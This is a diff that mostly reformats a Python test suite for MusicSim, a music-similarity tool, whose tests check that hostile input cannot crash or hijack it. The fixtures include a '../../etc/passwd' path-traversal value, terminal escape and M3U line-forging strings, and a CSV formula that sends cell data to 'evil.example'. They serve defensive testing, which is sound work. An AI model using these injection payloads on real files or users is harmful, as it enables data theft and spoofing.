@@ -47,7 +47,7 @@ def skip_lines(out: str, root: Path) -> dict[str, str]:
     for line in out.splitlines():
         if line.startswith("  skipped "):
             assert line.startswith(prefix), line
-            rel, _, reason = line[len(prefix):].partition(": ")
+            rel, _, reason = line[len(prefix) :].partition(": ")
             found[rel] = reason
     return found
 
@@ -105,8 +105,10 @@ def test_index_keeps_good_songs_and_records_reasons(corpus, cli_index):
         songs = {os.fsdecode(s.path.relative_to(root)): s for s in lib.songs(root)}
         ids, matrix = lib.embeddings(model.info.key)
         failures = lib.failures(model.info.key)
-        facts = {os.fsdecode(r[0]): r[1:] for r in
-                 lib.conn.execute("SELECT path, sample_rate, channels, duration FROM songs")}
+        facts = {
+            os.fsdecode(r[0]): r[1:]
+            for r in lib.conn.execute("SELECT path, sample_rate, channels, duration FROM songs")
+        }
     by_id = {s.id: rel for rel, s in songs.items()}
     assert {by_id[i] for i in ids.tolist()} == expected_ok(cases)
     assert np.isfinite(matrix).all() and matrix.shape[0] == len(expected_ok(cases))
@@ -145,10 +147,30 @@ def test_rescan_decodes_nothing_and_still_reports_reasons(corpus, cli_index, mon
 
 def test_training_survives_the_corpus(corpus, tmp_path):
     root, cases = corpus
-    rc, out, err = run_cli("--home", tmp_path / "home", "--quiet", "train", "--library", root,
-                           "--name", "hostile", "--arch", "musicnet-small", "--labels", "folders",
-                           "--epochs", "1", "--batch-size", "8", "--segments", "2", "--workers", "0",
-                           "--device", "cpu")
+    rc, out, err = run_cli(
+        "--home",
+        tmp_path / "home",
+        "--quiet",
+        "train",
+        "--library",
+        root,
+        "--name",
+        "hostile",
+        "--arch",
+        "musicnet-small",
+        "--labels",
+        "folders",
+        "--epochs",
+        "1",
+        "--batch-size",
+        "8",
+        "--segments",
+        "2",
+        "--workers",
+        "0",
+        "--device",
+        "cpu",
+    )
     assert rc == 0, err
     assert "Traceback" not in err
     saved = [ln for ln in out.splitlines() if ln.startswith("saved model 'hostile'")]
@@ -307,8 +329,14 @@ def _unprivileged_run():
         (base / "ro-existing").chmod(0o555)
         env = {k: v for k, v in os.environ.items() if not k.startswith("MUSICSIM")}
         env.update(HOME=str(base), PYTHONPATH=str(REPO), PYTHONDONTWRITEBYTECODE="1", OMP_NUM_THREADS="1")
-        proc = subprocess.Popen([*prefix, sys.executable, "-c", PERMISSION_SCRIPT, str(base)], cwd=REPO,
-                                env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+        proc = subprocess.Popen(
+            [*prefix, sys.executable, "-c", PERMISSION_SCRIPT, str(base)],
+            cwd=REPO,
+            env=env,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+        )
         yield base, proc
     finally:
         if proc is not None and proc.poll() is None:
@@ -329,7 +357,7 @@ def unprivileged(_unprivileged_run):
     out, err = proc.communicate(timeout=300)
     lines = [ln for ln in out.splitlines() if ln.startswith("RESULT ")]
     assert proc.returncode == 0 and lines, out + err
-    return base, json.loads(lines[0][len("RESULT "):])
+    return base, json.loads(lines[0][len("RESULT ") :])
 
 
 def _one_line_error(result: dict, pattern: str) -> None:
@@ -363,8 +391,11 @@ def test_read_only_data_folder_is_a_clear_error(unprivileged):
 def test_window_on_a_read_only_home_is_one_line(unprivileged):
     """Issue 19: the window used to die with an OSError traceback at start."""
     _, res = unprivileged
-    _one_line_error(res["app_ro"], r"cannot write to the MusicSim home '.*ro-home' \(Permission denied\); make it "
-                                   r"writable or pick another with --home or MUSICSIM_HOME")
+    _one_line_error(
+        res["app_ro"],
+        r"cannot write to the MusicSim home '.*ro-home' \(Permission denied\); make it "
+        r"writable or pick another with --home or MUSICSIM_HOME",
+    )
 
 
 # == issue 19: what a stranger hands you cannot crash, poison or impersonate ========================
@@ -431,8 +462,10 @@ def test_poisoned_shared_vectors_are_embedded_from_audio(clean, tmp_path, poison
     rc, out, err = index(home, lib)
     assert rc == 0 and "Traceback" not in err, err
     assert out.startswith("indexed 1, 8 from the folder's precomputed embeddings"), out
-    assert "note: 1 song(s) in 'musicsim-embeddings.safetensors' have unusable embeddings (first: " \
-           "synth/tones/tones-1.wav:" in out
+    assert (
+        "note: 1 song(s) in 'musicsim-embeddings.safetensors' have unusable embeddings (first: "
+        "synth/tones/tones-1.wav:" in out
+    )
     _same_answer(query(home, song), clean, lib)
 
 
@@ -465,8 +498,10 @@ BAD_ENTRIES = {
     "size negative": (lambda s: s.update(size=-1), "size must be between 0"),
     "sha256 a number": (lambda s: s.update(sha256=12), "sha256 must be 64 lower-case hex digits"),
     "channels 1e400": (lambda s: s.update(channels=float("inf")), "channels must be a finite number"),
-    "rel escaping the folder": (lambda s: s.update(rel="../../etc/passwd"),
-                                "rel '../../etc/passwd' is not a path inside the folder"),
+    "rel escaping the folder": (
+        lambda s: s.update(rel="../../etc/passwd"),
+        "rel '../../etc/passwd' is not a path inside the folder",
+    ),
     "not an object": (None, "not an object but str"),
 }
 
@@ -495,11 +530,18 @@ def test_malformed_shared_entries_are_skipped_with_a_note(clean, tmp_path, what)
 
 #: whole-file problems: (raw metadata or a maker, what the note says)
 BAD_FILES = {
-    "version 1e400": ('{{"format": "musicsim-precomputed-embeddings", "version": 1e400, {rest}', "version must be a "
-                      "finite number"),
-    "version [2]": ('{{"format": "musicsim-precomputed-embeddings", "version": [2], {rest}', "version must be a number"),
-    "deep JSON": ('{{"format": "musicsim-precomputed-embeddings", "version": 1, "x": ' + _deep(100_000) + ", {rest}",
-                  "nested too deeply"),
+    "version 1e400": (
+        '{{"format": "musicsim-precomputed-embeddings", "version": 1e400, {rest}',
+        "version must be a finite number",
+    ),
+    "version [2]": (
+        '{{"format": "musicsim-precomputed-embeddings", "version": [2], {rest}',
+        "version must be a number",
+    ),
+    "deep JSON": (
+        '{{"format": "musicsim-precomputed-embeddings", "version": 1, "x": ' + _deep(100_000) + ", {rest}",
+        "nested too deeply",
+    ),
     "not JSON": ("{{{{{{", "Expecting property name"),
     "songs an object": (None, "songs must be a list"),
 }
@@ -581,10 +623,18 @@ def poisoned(clean, tmp_path):
     set_vector(db, album / "squares" / "squares-1.wav", b"abc")
     set_vector(db, album / "noise" / "noise-0.wav", np.ones(2 * N_FEATURES, np.float32).tobytes())
     set_vector(db, album / "noise" / "noise-1.wav", np.zeros(N_FEATURES, np.float32).tobytes())
-    execute(db, "UPDATE songs SET duration = 'three minutes', title = ? WHERE path = ?", b"\x00\xff",
-            bytes(album / "tones" / "tones-2.wav"))
-    execute(db, "UPDATE songs SET title = ? WHERE path = ?", "\x1b]0;pwned\x07" + "y" * 5_000_000,
-            bytes(album / "noise" / "noise-2.wav"))
+    execute(
+        db,
+        "UPDATE songs SET duration = 'three minutes', title = ? WHERE path = ?",
+        b"\x00\xff",
+        bytes(album / "tones" / "tones-2.wav"),
+    )
+    execute(
+        db,
+        "UPDATE songs SET title = ? WHERE path = ?",
+        "\x1b]0;pwned\x07" + "y" * 5_000_000,
+        bytes(album / "noise" / "noise-2.wav"),
+    )
     return lib, home, song
 
 
@@ -602,8 +652,10 @@ def test_search_survives_poisoned_rows_and_index_mends_them(clean, poisoned):
     assert len({s.path.name: s.title for s in songs}["noise-2.wav"]) == 500
     rc, out, err = index(home, lib)
     assert rc == 0 and out.startswith("indexed 5, unchanged 4"), out + err
-    assert "note: 5 stored embedding(s) were unusable (not finite, absurd or the wrong size); those songs " \
-           "are embedded anew" in out
+    assert (
+        "note: 5 stored embedding(s) were unusable (not finite, absurd or the wrong size); those songs "
+        "are embedded anew" in out
+    )
     _same_answer(query(home, song), clean, lib)
 
 
@@ -656,7 +708,9 @@ def test_a_damaged_database_page_is_one_line_and_check_repairs_it(clean, tmp_pat
         rc, out, err = run_cli("--home", home, *argv)
         assert rc == 2 and "Traceback" not in err, err
         lines = err.strip().splitlines()
-        assert len(lines) == 1 and re.match(r"musicsim: error: .*damaged.*'musicsim check --repair'", lines[0]), err
+        assert len(lines) == 1 and re.match(
+            r"musicsim: error: .*damaged.*'musicsim check --repair'", lines[0]
+        ), err
     rc, out, _ = run_cli("--home", home, "check")
     assert rc == 1 and "  damaged: " in out, out
     rc, out, err = run_cli("--home", home, "check", "--repair")
@@ -708,8 +762,17 @@ def test_m3u_export_keeps_one_entry_per_song(tmp_path):
     lib = tmp_path / "music"
     raw_name = lib / os.fsdecode(b"caf\xe9.wav")
     newline = lib / "two\nlines.wav"
-    songs = [SimpleNamespace(path=p, root=lib, duration_s=3.0, title=f"T\n#EXTINF:0,forged\r{i}",
-                             artist="A\x1b[31m", album=None) for i, p in enumerate((raw_name, newline))]
+    songs = [
+        SimpleNamespace(
+            path=p,
+            root=lib,
+            duration_s=3.0,
+            title=f"T\n#EXTINF:0,forged\r{i}",
+            artist="A\x1b[31m",
+            album=None,
+        )
+        for i, p in enumerate((raw_name, newline))
+    ]
     window_m3u(tmp_path / "w.m3u", [SimpleNamespace(song=s) for s in songs])
     engine_m3u(tmp_path / "e.m3u", [(s.path, s.duration_s, f"{s.artist} - {s.title}") for s in songs])
     for out in (tmp_path / "w.m3u", tmp_path / "e.m3u"):
@@ -725,8 +788,14 @@ def test_benchmark_csv_cannot_run_a_formula(tmp_path):
     from trainer.evaluate import BenchResult, ScoreRow, load_reference_tables
 
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    res = BenchResult(model=evil, rows=[ScoreRow("cosine", "Normalizer", 50.0, 3)], p_at_1=0.5, map_at_r=0.5,
-                      n_songs=3, n_triplets=3)
+    res = BenchResult(
+        model=evil,
+        rows=[ScoreRow("cosine", "Normalizer", 50.0, 3)],
+        p_at_1=0.5,
+        map_at_r=0.5,
+        n_songs=3,
+        n_triplets=3,
+    )
     res.to_csv(tmp_path / "r.csv")
     cell = (tmp_path / "r.csv").read_text().splitlines()[1]
     assert cell.startswith("'=HYPERLINK(") or cell.startswith("\"'=HYPERLINK(")
